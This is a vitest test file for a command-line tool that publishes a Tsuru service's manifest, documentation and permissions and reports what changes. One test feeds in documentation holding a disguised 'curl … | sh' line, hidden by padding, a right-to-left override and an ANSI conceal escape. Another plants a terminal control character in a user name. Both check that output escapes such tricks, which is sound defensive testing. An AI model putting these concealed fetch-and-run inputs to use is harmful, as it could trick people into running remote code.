import { afterEach, beforeEach, describe, expect, it } from 'vitest';

import { claim } from '../../src/project/claim.ts';
import { rootOf } from '../../src/project/open.ts';
import { grantsTheSame } from '../../src/publish/registration.ts';
import { machine } from '../support/disks.ts';
import { PASSWORD } from './support/project.ts';
import { makeStage, type Stage } from './support/tsuru.ts';

let stage: Stage;

beforeEach(async () => {
  stage = await makeStage();
});

afterEach(() => stage.close());

const manifestInTsuru = async () => (await stage.api('GET', '/1.31/services/my-db/manifest')).body;
const docInTsuru = async () => (await stage.api('GET', '/1.0/services/my-db/doc')).body;

/** The fields of the newest event that changed the service. */
async function newestFields(kind: string): Promise<Record<string, string>> {
  const list = JSON.parse((await stage.api('GET', `/1.1/events?target.type=service&target.value=my-db&kindname=service.${kind}`)).body) as { UniqueID: string }[];
  const { body } = await stage.api('GET', `/1.1/events/${list[0]?.UniqueID ?? ''}`);
  const { CustomData } = JSON.parse(body) as { CustomData: { Start: { name: string; value: string }[] } };
  return Object.fromEntries(CustomData.Start.map(({ name, value }) => [name, value]));
}

describe('publish creates a service', () => {
  it('with its documentation and permissions, and shows that Tsuru reaches it', async () => {
    const { code, output } = await stage.publish();
    expect([code, output]).toEqual([0, [
      `my-db is new in ${stage.sandbox.address}:`,
      `  endpoint        + ${stage.endpoint}`,
      '  user name       + my-db',
      '  team            + dbas',
      '  encoding        + form',
      '  multi-cluster   + false',
      '  password        sent each time: Tsuru does not show it',
      '  documentation   3 lines added, 0 lines removed',
      '  permissions     enabled false → true',
      '  permissions     legacy_compat false → true',
      '  permissions     operation + GET /usage (usage.show)',
      '  permissions     operation + POST /backups/{id} (backups.create)',
      '✓ Service sent.',
      '✓ Documentation sent.',
      '✓ Permissions sent.',
      '✓ Tsuru reaches the service: plans small, large.',
      '',
    ].join('\n')]);
    expect(await docInTsuru()).toBe('# my-db\n\nIt holds data.\n');
    expect(JSON.parse(await manifestInTsuru())).toEqual({
      ...{ enabled: true, strict_actions: false, legacy_compat: true },
      operations: [{ method: 'GET', path: '/usage', action: 'usage.show' }, { method: 'POST', path: '/backups/{id}', action: 'backups.create' }],
    });
  });

  it('without leaving its password in the event', async () => {
    await stage.publish();
    expect(await newestFields('create')).not.toHaveProperty('password');
  });

  it('in a fresh clone, with the password of the environment', async () => {
    stage.project.write('manifest.example.yaml', `id: my-db\nusername: my-db\npassword: ""\nteam: dbas\nendpoint:\n  production: ${stage.endpoint}\n`);
    stage.project.removeFile('manifest.yaml');
    const { sandbox } = stage;
    const access = { TSURU_TARGET: sandbox.address, TSURU_TOKEN: sandbox.token };
    expect(await stage.project.publish(access)).toEqual({ code: 5, output: expect.stringMatching(/^manifest\.example\.yaml:3: password: [^]*SERVICE_PASSWORD/) as string });
    expect(await stage.project.publish({ ...access, SERVICE_PASSWORD: PASSWORD })).toEqual({ code: 0, output: expect.stringContaining('plans small, large') as string });
  });

  it('in a fresh clone without losing the endpoint in a Tsuru elsewhere to that of the first day', async () => {
    stage.project.manifest({ endpoint: { production: 'https://my-db.example.com' } });
    await stage.publish();
    stage.project.write('manifest.example.yaml', 'id: my-db\nusername: my-db\npassword: ""\nteam: dbas\nendpoint:\n  production: http://localhost:8888\n');
    stage.project.removeFile('manifest.yaml');
    const { address, token } = stage.sandbox;
    const away = address.replace('127.0.0.1', '[::ffff:7f00:1]');
    const publish = (target: string, by: string, ...argv: string[]) => stage.project.publish({ TSURU_TARGET: target, TSURU_TOKEN: by, SERVICE_PASSWORD: PASSWORD }, ...argv);
    expect((await publish(away, token, '--check')).code).toBe(6);
    for (const argv of [[], ['--dry-run']]) {
      expect(await publish(away, token, ...argv)).toEqual({ code: 4, output: expect.stringContaining(
        `The endpoint http://localhost:8888 would replace https://my-db.example.com, but Tsuru at ${away} cannot reach it.\nSet it in manifest.yaml. CI has`,
      ) as string });
    }
    const limited = await stage.userWith('service.update');
    expect(await publish(away, limited)).toEqual({ code: 4, output: expect.stringContaining('would replace one that could not be read') as string });
    // Where Tsuru is on this machine, it can reach it; and what is local already stays so.
    expect(await publish(address, token)).toEqual({ code: 0, output: expect.stringContaining('https://my-db.example.com → http://localhost:8888') as string });
    expect((await publish(away, token)).code).toBe(0);
  });

  it('in a fresh clone without losing the endpoints of clusters and the user name that only manifest.yaml has', async () => {
    const endpoint = { production: stage.endpoint, c1: 'http://one.example' };
    stage.project.manifest({ endpoint, username: 'tsuru' });
    await stage.publish();
    const example = (fields: Record<string, unknown>) => {
      stage.project.write('manifest.example.yaml', JSON.stringify({ id: 'my-db', username: 'my-db', password: '', team: 'dbas', endpoint: { production: stage.endpoint }, ...fields }));
    };
    example({});
    stage.project.removeFile('manifest.yaml');
    const access = { TSURU_TARGET: stage.sandbox.address, TSURU_TOKEN: stage.sandbox.token, SERVICE_PASSWORD: PASSWORD };
    const publish = (...argv: string[]) => stage.project.publish(access, ...argv);
    const refused = (lost: string) => ({ code: 4, output: expect.stringContaining([
      `There is no manifest.yaml, and manifest.example.yaml lacks what Tsuru has: ${lost}.`,
      'Add it to manifest.example.yaml: create-tsuru-service regenerate keeps it. If the change is meant, publish it once with a manifest.yaml.\n',
    ].join('\n')) as string });
    expect((await publish('--check')).code).toBe(6);
    for (const argv of [[], ['--dry-run']]) {
      expect(await publish(...argv)).toEqual(refused('endpoint of c1 http://one.example, user name tsuru (it has my-db)'));
    }
    example({ endpoint });
    expect(await publish()).toEqual(refused('user name tsuru (it has my-db)'));
    example({ username: 'tsuru' });
    expect(await publish()).toEqual(refused('endpoint of c1 http://one.example'));
    expect(await newestFields('create')).toMatchObject({ username: 'tsuru', 'endpoints.c1': 'http://one.example' });
    // What it adds or replaces is meant; and a manifest.yaml may say otherwise.
    example({ username: 'tsuru', endpoint: { ...endpoint, c1: 'http://other.example', c2: 'http://two.example' } });
    expect((await publish()).code).toBe(0);
    stage.project.manifest();
    expect((await publish()).code).toBe(0);
    expect((await publish('--check')).output).toContain('up to date');
  });

  it('in a fresh clone only if the token can read what the example may lack', async () => {
    stage.project.manifest({ endpoint: { production: stage.endpoint, c1: 'http://one.example' }, username: 'tsuru' });
    await stage.publish();
    stage.project.write('manifest.example.yaml', `id: my-db\nusername: my-db\npassword: ""\nteam: dbas\nendpoint: {production: "${stage.endpoint}"}\n`);
    stage.project.removeFile('manifest.yaml');
    const access = { TSURU_TARGET: stage.sandbox.address, TSURU_TOKEN: await stage.userWith('service.update'), SERVICE_PASSWORD: PASSWORD };
    for (const argv of [[], ['--dry-run']]) {
      expect(await stage.project.publish(access, ...argv)).toEqual({ code: 4, output: expect.stringContaining([
        'There is no manifest.yaml, and this token cannot read the endpoints and the user name that Tsuru has: manifest.example.yaml may lack some.',
        'Use a token with the permission service.read.events for all teams that have owned my-db, or a manifest.yaml.\n',
      ].join('\n')) as string });
    }
    expect(await newestFields('create')).toMatchObject({ username: 'tsuru', 'endpoints.c1': 'http://one.example' });
    stage.project.manifest();
    expect((await stage.project.publish(access)).code).toBe(0);
  });

  it('in a fresh clone with the permissions that the README names for CI', async () => {
    stage.project.write('manifest.example.yaml', `id: my-db\nusername: my-db\npassword: ""\nteam: dbas\nendpoint: {production: "${stage.endpoint}"}\n`);
    stage.project.removeFile('manifest.yaml');
    const access = { TSURU_TARGET: stage.sandbox.address, TSURU_TOKEN: await stage.userWith('service.create', 'service.read', 'service.update'), SERVICE_PASSWORD: PASSWORD };
    for (const known of ['my-db is new', 'is up to date']) {
      expect(await stage.project.publish(access)).toEqual({ code: 0, output: expect.stringMatching(new RegExp(`${known}[^]*plans small, large`)) as string });
    }
  });

  it('in a fresh clone without control characters of Tsuru in an error', async () => {
    await stage.publish();
    await stage.api('PUT', '/1.0/services/my-db', { username: 'a\u009b0mb', password: 'x', endpoint: stage.endpoint });
    stage.project.write('manifest.example.yaml', `id: my-db\npassword: ""\nteam: dbas\nendpoint: {production: "${stage.endpoint}"}\n`);
    stage.project.removeFile('manifest.yaml');
    const { address, token } = stage.sandbox;
    const { code, output } = await stage.project.publish({ TSURU_TARGET: address, TSURU_TOKEN: token, SERVICE_PASSWORD: PASSWORD });
    expect([code, output]).toEqual([4, expect.stringContaining('lacks what Tsuru has: user name "a\\u{9b}0mb" (it has my-db).') as string]);
  });

  it('with an endpoint for each cluster, whatever its name is', async () => {
    stage.project.manifest({ endpoint: { production: stage.endpoint, c1: 'http://one.example', 'c.2': 'http://two.example' }, 'multi-cluster': true });
    const { code, output } = await stage.publish();
    expect([code, output]).toEqual([0, expect.stringContaining('endpoint of c.2 + http://two.example') as string]);
    expect(await newestFields('create')).toMatchObject({ 'endpoints.production': stage.endpoint, 'endpoints.c1': 'http://one.example', 'multi-cluster': 'true' });
    expect(await stage.publish('--check')).toEqual({ code: 0, output: expect.stringContaining('up to date') as string });
  });
});

describe('publish', () => {
  beforeEach(() => stage.publish());

  it('sends nothing of a project whose files an interrupted run left half new', async () => {
    stage.project.write('docs/service.md', '# Half\n');
    stage.project.write('.tsuru-service/journal.json', '{}');
    expect(await stage.publish()).toEqual({ code: 4, output: 'An earlier run was interrupted.\nRun regenerate first: it finishes or undoes that run.\n' });
    expect(await docInTsuru()).toBe('# my-db\n\nIt holds data.\n');
  });

  describe('from a fresh clone', () => {
    const publishClone = () => stage.project.publish({ TSURU_TARGET: stage.sandbox.address, TSURU_TOKEN: stage.sandbox.token, SERVICE_PASSWORD: PASSWORD });
    beforeEach(() => {
      stage.project.write('manifest.example.yaml', `id: my-db\nusername: my-db\nteam: dbas\nendpoint: {production: "${stage.endpoint}"}\n`);
      stage.project.removeFile('manifest.yaml');
      stage.project.write('docs/service.md', '# Half\n');
    });

    it('sends nothing whose files an interrupted run left half new', async () => {
      stage.project.write('.tsuru-service/journal.json', '{}');
      expect(await publishClone()).toEqual({ code: 4, output: 'An earlier run was interrupted.\nRun regenerate first: it finishes or undoes that run.\n' });
      expect(await docInTsuru()).toBe('# my-db\n\nIt holds data.\n');
    });

    it('sends nothing while another run changes it', async () => {
      const end = await claim(rootOf(stage.project.directory), { ...machine, pid: process.ppid });
      expect(await publishClone()).toEqual({ code: 4, output: expect.stringContaining(`Another run is changing this project (process ${process.ppid}).`) as string });
      end();
      expect(await docInTsuru()).toBe('# my-db\n\nIt holds data.\n');
      expect((await publishClone()).code).toBe(0);
    });
  });

  it('does not move the lines of problems below a password of several lines', async () => {
    const access = { TSURU_TARGET: stage.sandbox.address, TSURU_TOKEN: stage.sandbox.token };
    for (const password of ['>-\n  one\n  two', '\n  one\n  two', 'one\n  two\n  three']) {
      stage.project.write('manifest.yaml', `id: my-db\nusername: a:b\npassword: ${password}\nteam: a team\nendpoint: {production: "${stage.endpoint}"}\n`);
      expect(await stage.project.publish({ ...access, SERVICE_PASSWORD: PASSWORD })).toEqual({ code: 5, output: expect.stringMatching(/^manifest\.yaml:2: username: .*\nmanifest\.yaml:6: team: /) as string });
    }
  });

  it('takes documentation with the line ends of Windows for the same', async () => {
    await stage.publish();
    stage.project.write('docs/service.md', '# my-db\r\n\r\nIt holds data.\r\n');
    expect(await stage.publish('--check')).toEqual({ code: 0, output: expect.stringContaining('up to date') as string });
  });

  it('finds nothing to change the second time, and sends the password again', async () => {
    const again = `my-db in ${stage.sandbox.address} is up to date.\n  password        sent each time: Tsuru does not show it\n✓ Service sent.\n✓ Tsuru reaches the service: plans small, large.\n`;
    expect(await stage.publish()).toEqual({ code: 0, output: again });
    expect(await stage.publish('--check')).toEqual({ code: 0, output: again.slice(0, again.indexOf('✓')) });
  });

  it('warns of a password in the environment that is not that of the project, such as one of before a rotation', async () => {
    const access = { TSURU_TARGET: stage.sandbox.address, TSURU_TOKEN: stage.sandbox.token };
    const warning = 'Warning: SERVICE_PASSWORD in the environment is another password';
    expect((await stage.project.publish({ ...access, SERVICE_PASSWORD: 'an-older-one' })).output).toContain(warning);
    expect((await stage.project.publish({ ...access, SERVICE_PASSWORD: PASSWORD })).output).not.toContain(warning);
  });

  it.each(['SERVICE_PASSWORD', 'SERVICE_USERNAME'])('sends nothing of a manifest that disagrees with .env, with an empty %s in the environment as well', async (name) => {
    stage.project.write('.env', `${name}=another-one\n`);
    const { code, output } = await stage.project.publish({ TSURU_TARGET: stage.sandbox.address, TSURU_TOKEN: stage.sandbox.token, [name]: '' });
    expect([code, output]).toEqual([5, (await stage.publish()).output]);
    expect(output).toContain(`It is not ${name}, which the service takes`);
    expect(output).not.toContain('Warning');
  });

  it('sends what changed in the project', async () => {
    stage.project.write('docs/service.md', '# my-db\n\nIt holds more data.\n');
    stage.project.permissions(['GET /usage usage.show', 'GET /backups backups.list']);
    stage.project.manifest({ endpoint: { production: `${stage.endpoint}/` } });
    const dry = await stage.publish('--dry-run');
    expect(dry).toEqual({ code: 0, output: [
      `my-db in ${stage.sandbox.address}:`,
      `  endpoint        ${stage.endpoint} → ${stage.endpoint}/`,
      '  password        sent each time: Tsuru does not show it',
      '  documentation   1 line added, 1 line removed',
      '    - It holds data.',
      '    + It holds more data.',
      '  permissions     operation - POST /backups/{id} (backups.create)',
      '  permissions     operation + GET /backups (backups.list)',
      '',
    ].map((line) => line.trimEnd()).join('\n') });
    expect(await docInTsuru()).toContain('It holds data');
    expect((await stage.publish('--check')).code).toBe(6);
    expect((await stage.publish()).code).toBe(0);
    expect(await docInTsuru()).toContain('It holds more data');
    expect(await manifestInTsuru()).toContain('backups.list');
    expect((await stage.publish('--check')).code).toBe(0);
  });

  it('shows all of what it sends, with nothing out of sight', async () => {
    const far = `${'a'.repeat(300)}.example`;
    stage.project.manifest({ endpoint: { production: `http://good.example.${far}` } });
    stage.project.write('docs/service.md', `# my-db\n\n\tGet it: ${' '.repeat(300)}curl ${far} \u202e| sh\u001b[8m\n`);
    const operations = [{ method: 'GET', path: `/usage${' '.repeat(300)}`, action: 'usage.show' }, { method: 'GET', path: '/a (b)', action: 'c' }, { method: 'GET', path: '/a', action: 'b) (c\u200b' }];
    stage.project.write('permissions.json', JSON.stringify({ enabled: true, legacy_compat: true, operations }));
    const { output } = await stage.publish('--dry-run');
    expect(output.split('\n')).toEqual(expect.arrayContaining([
      `  endpoint        ${stage.endpoint} → http://good.example.${far}`,
      `    + \tGet it: ${' '.repeat(300)}curl ${far} \\u{202e}| sh\\u{1b}[8m`,
      `  permissions     operation + GET "/usage${' '.repeat(300)}" (usage.show)`,
      '  permissions     operation + GET "/a (b)" (c)',
      '  permissions     operation + GET /a ("b) (c\\u{200b}")',
    ]));
  });

  it('shows differences in blanks, in line ends and in how often an operation is there', async () => {
    const differences = async () => (await stage.publish('--dry-run')).output.split('\n').filter((line) => /^ {4}|operation/.test(line));
    stage.project.write('docs/service.md', '# my-db  \n\nIt holds data.');
    stage.project.permissions(['GET /usage usage.show', 'GET /usage usage.show', 'POST /backups/{id} backups.create']);
    expect(await differences()).toEqual([
      ...['    - # my-db', '    + # my-db\\u{20}\\u{20}', '    - It holds data.', '    + It holds data.', '    \\ no line end'],
      '  permissions     operation + GET /usage (usage.show)',
    ]);
    await stage.api('PUT', '/1.0/services/my-db/doc', { doc: '# my-db\r\n \nIt holds data.\n' });
    stage.project.write('docs/service.md', '# my-db\n\nIt holds data.\n');
    stage.project.permissions(['GET /usage usage.show']);
    expect(await differences()).toEqual([
      ...['    - # my-db\\u{d}', '    - \\u{20}', '    + # my-db', '    + '],
      '  permissions     operation - POST /backups/{id} (backups.create)',
    ]);
  });

  it('tells permissions apart that read the same', () => {
    const permissions = (path: string, action: string) => ({ enabled: true, strict_actions: false, legacy_compat: false, operations: [{ method: 'GET', path, action }] });
    expect(grantsTheSame(permissions('/a (b)', 'c'), permissions('/a (b)', 'c'))).toBe(true);
    expect(grantsTheSame(permissions('/a (b)', 'c'), permissions('/a', 'b) (c'))).toBe(false);
  });

  it.each([
    ['the documentation', 'PUT', '/1.0/services/my-db/doc', { doc: 'mine' }, /documentation {3}3 lines added, 1 line removed/],
    ['the permissions', 'PUT', '/1.31/services/my-db/manifest', '{"enabled":false}', /enabled false → true/],
    ['the endpoint', 'PUT', '/1.0/services/my-db', { username: 'my-db', password: 'x', endpoint: 'http://other.example' }, /endpoint {8}http:\/\/other\.example → /],
    ['the user name', 'PUT', '/1.0/services/my-db', { username: 'you', password: 'x', endpoint: 'http://other.example' }, /user name {7}you → my-db/],
    ['the encoding', 'PUT', '/1.0/services/my-db', { password: 'x', endpoint: 'http://other.example', encoding: 'json' }, /encoding {8}json → form/],
    ['what a form names in another case', 'PUT', '/1.0/services/my-db', { password: 'x', Endpoint: 'http://other.example', Team: 'none' }, /endpoint {8}http:\/\/other\.example → /],
    ['what JSON names in another case', 'PUT', '/1.0/services/my-db', '{"Password":"x","EndPoints":{"production":"http://other.example","C1":"http://c"}}', /endpoint of C1 {2}- http:\/\/c\n {2}endpoint {8}http:\/\/other\.example → /],
    ['what a form and the query name', 'PUT', '/1.0/services/my-db?endpoint=http://last.example&team=none', { password: 'x', endpoint: 'http://other.example', team: 'dbas' }, /endpoint {8}http:\/\/last\.example → (?![^]*team)/],
  ] as const)('sets %s back when somebody else changed it in Tsuru', async (_, method, path, body, difference) => {
    await stage.api(method, path, body);
    const checked = await stage.publish('--check');
    expect([checked.code, checked.output]).toEqual([6, expect.stringMatching(difference) as string]);
    expect((await stage.publish()).code).toBe(0);
    expect((await stage.publish('--check')).code).toBe(0);
  });

  it('keeps in mind what an earlier update said of the encoding and the team', async () => {
    await stage.api('POST', '/1.0/teams', { name: 'others' });
    await stage.api('PUT', '/1.0/services/my-db', { password: 'x', endpoint: 'http://other.example', encoding: 'json', team: 'others' });
    await stage.api('PUT', '/1.0/services/my-db', { password: 'x', endpoint: stage.endpoint, username: 'my-db' });
    const { code, output } = await stage.publish('--check');
    expect(code).toBe(6);
    expect(output).toContain('encoding        json → form');
    expect(output).toContain('team            others → dbas');
    expect(output).not.toContain('endpoint  ');
  });

  it('takes no event for the last one while those of another team may be hidden from a token', async () => {
    const ann = { TSURU_TARGET: stage.sandbox.address, TSURU_TOKEN: await stage.userWith('service') };
    const update = (fields: Record<string, string>) => stage.api('PUT', '/1.0/services/my-db', { password: 'x', endpoint: stage.endpoint, username: 'my-db', ...fields });
    const hidden = async () => /not compared {4}(.*):/.exec((await stage.project.publish(ann, '--check')).output)?.[1];
    await stage.api('POST', '/1.0/teams', { name: 'others' });
    expect(await hidden()).toBe(undefined);
    await update({ team: 'others' });
    expect(await hidden()).toBe('endpoint, user name, team, encoding, multi-cluster');
    await update({ encoding: 'json' });
    expect(await hidden()).toBe('endpoint, user name, team, encoding, multi-cluster');
    // One who sees the events of the other team, too, misses none.
    expect((await stage.publish('--check')).output).toMatch(/:\n {2}team {12}others → dbas\n {2}encoding {8}json → form\n {2}password/);
    await update({ team: 'dbas' });
    await update({});
    expect(await hidden()).toBe('team, encoding, multi-cluster');
    expect((await stage.publish('--check')).output).toMatch(/:\n {2}encoding {8}json → form\n {2}password/);
  });

  it('sends all parts of a service that it gives away to a team where the token has no rights', async () => {
    await stage.api('POST', '/1.0/teams', { name: 'others' });
    const ann = { TSURU_TARGET: stage.sandbox.address, TSURU_TOKEN: await stage.userWith('service') };
    stage.project.manifest({ team: 'others' });
    stage.project.write('docs/service.md', 'new');
    stage.project.permissions(['GET /usage usage.show']);
    const { code, output } = await stage.project.publish(ann);
    expect([code, output]).toEqual([0, expect.stringContaining('✓ Documentation sent.\n✓ Permissions sent.\n✓ Service sent.\n') as string]);
    expect((await stage.publish('--check')).code).toBe(0);
    stage.project.write('docs/service.md', 'newer');
    expect((await stage.project.publish(ann)).output).toContain('✗ Tsuru refuses the documentation');
  });

  it('sends documentation of 1 MiB, and refuses any that is longer before anything is sent', async () => {
    const longest = 'é'.repeat(524_288);
    stage.project.write('docs/service.md', longest);
    expect((await stage.publish()).code).toBe(0);
    expect((await stage.publish('--check')).output).toContain('up to date');
    stage.project.write('docs/service.md', `${longest}.`);
    stage.project.permissions([]);
    expect(await stage.publish()).toEqual({ code: 5, output: 'docs/service.md has 1048577 bytes, more than 1 MiB (1048576 bytes): publish could not compare it with what Tsuru has.\nShorten it.\n' });
    expect(await manifestInTsuru()).toContain('usage.show');
  });

  it('replaces documentation in Tsuru that is too long to be compared', async () => {
    await stage.api('PUT', '/1.0/services/my-db/doc', { doc: 'x'.repeat(1_048_577) });
    const unread = '  documentation   not compared, but sent: this token may not read it, or it has more than 1 MiB\n';
    expect(await stage.publish('--check')).toEqual({ code: 0, output: expect.stringContaining(unread) as string });
    expect((await stage.publish()).code).toBe(0);
    expect(await docInTsuru()).toContain('It holds data');
    expect((await stage.publish('--check')).output).toContain('up to date');
  });

  it('finds the team that Tsuru chose for a service that was created without one', async () => {
    await stage.api('DELETE', '/1.0/services/my-db');
    const token = await stage.userWith('service');
    const access = { TSURU_TARGET: stage.sandbox.address, TSURU_TOKEN: token };
    stage.project.manifest({ team: '' });
    expect((await stage.project.publish(access)).code).toBe(0);
    stage.project.manifest({ team: 'others' });
    expect((await stage.project.publish(access, '--check')).output).toContain('team            dbas → others');
    stage.project.manifest();
    expect((await stage.project.publish(access, '--check')).output).toContain('is up to date');
  });

  it('takes nothing from the life of an earlier service with that name', async () => {
    await stage.api('DELETE', '/1.0/services/my-db');
    expect((await stage.publish('--dry-run')).output).toContain('my-db is new');
    await stage.api('POST', '/1.0/services', { id: 'my-db', username: 'my-db', password: 'x', team: 'dbas', endpoint: stage.endpoint, 'multi-cluster': 'true' });
    expect((await stage.publish('--dry-run')).output).toContain('An update does not change multi-cluster');
  });

  it('says what to do when the service is to be multi-cluster, which no update changes', async () => {
    stage.project.manifest({ 'multi-cluster': true });
    expect((await stage.publish('--check')).code).toBe(6);
    const { code, output } = await stage.publish();
    expect([code, output]).toEqual([1, expect.stringContaining('tsuru service destroy') as string]);
    expect(output).toContain('✓ Service sent.');
  });

  it('never shows the password that Tsuru keeps of a service that was created in JSON', async () => {
    await stage.api('DELETE', '/1.0/services/my-db');
    const body = { id: 'my-db', username: 'my-db', password: 'left-in-the-event', team: 'dbas', endpoints: { production: 'http://other.example' }, encoding: '', 'multi-cluster': false };
    await stage.api('POST', '/1.0/services', JSON.stringify(body));
    const { output } = await stage.publish('--dry-run');
    expect(output).toMatch(/:\n {2}endpoint {8}http:\/\/other\.example → .*\n {2}password/);
    expect(output).not.toContain('left-in-the-event');
  });

  it('shows what it sends in the place of what a token may not read in events, but no secret', async () => {
    const access = { TSURU_TARGET: stage.sandbox.address, TSURU_TOKEN: await stage.userWith('service.update') };
    stage.project.manifest({ username: PASSWORD, endpoint: { production: stage.endpoint, 'c 1': 'http://one.example/a\u202e' } });
    const { output } = await stage.project.publish(access, '--dry-run');
    expect(output).toContain(`:\n  endpoint        ? → ${stage.endpoint}\n  endpoint of "c 1" ? → "http://one.example/a\\u{202e}"\n  user name       ? → "***"\n  team `);
  });

  it('sends what a token may not read in events each time, and says so', async () => {
    const token = await stage.userWith('service.update');
    const { code, output } = await stage.project.publish({ TSURU_TARGET: stage.sandbox.address, TSURU_TOKEN: token });
    expect(code).toBe(0);
    expect(output).toContain([
      `my-db in ${stage.sandbox.address}:`,
      `  endpoint        ? → ${stage.endpoint}`,
      '  user name       ? → my-db',
      '  team            ? → dbas',
      '  encoding        ? → form',
      '  not compared    endpoint, user name, team, encoding, multi-cluster: only events of Tsuru show this, and some may not have been read',
      '  password        sent each time: Tsuru does not show it',
      '',
    ].join('\n'));
    expect((await stage.project.publish({ TSURU_TARGET: stage.sandbox.address, TSURU_TOKEN: token }, '--check')).code).toBe(0);
  });
});

describe('a warning, which changes no exit code,', () => {
  it.each([
    ['when nothing listens at the endpoint', { endpoint: { production: 'http://127.0.0.1:1' } }, /does not reach the service: nothing listens at its endpoint .* Check that the service runs/],
    ['when the service refuses the password', { password: 'another password' }, /gets no plans from the service\. Does it run with the same/],
    ['when the name is unknown', { endpoint: { production: 'http://nowhere.invalid' } }, /the name in its endpoint is unknown there/],
  ])('is given %s', async (_, fields, warning) => {
    stage.project.manifest(fields);
    const { code, output } = await stage.publish();
    expect([code, output.replace(/\n(?=\S)/g, ' ')]).toEqual([0, expect.stringMatching(warning) as string]);
  });

  it('is not needed for a multi-cluster service, which is asked in a pool', async () => {
    stage.project.manifest({ 'multi-cluster': true });
    expect(await stage.publish()).toEqual({ code: 0, output: expect.stringContaining('plans small, large') as string });
  });
});
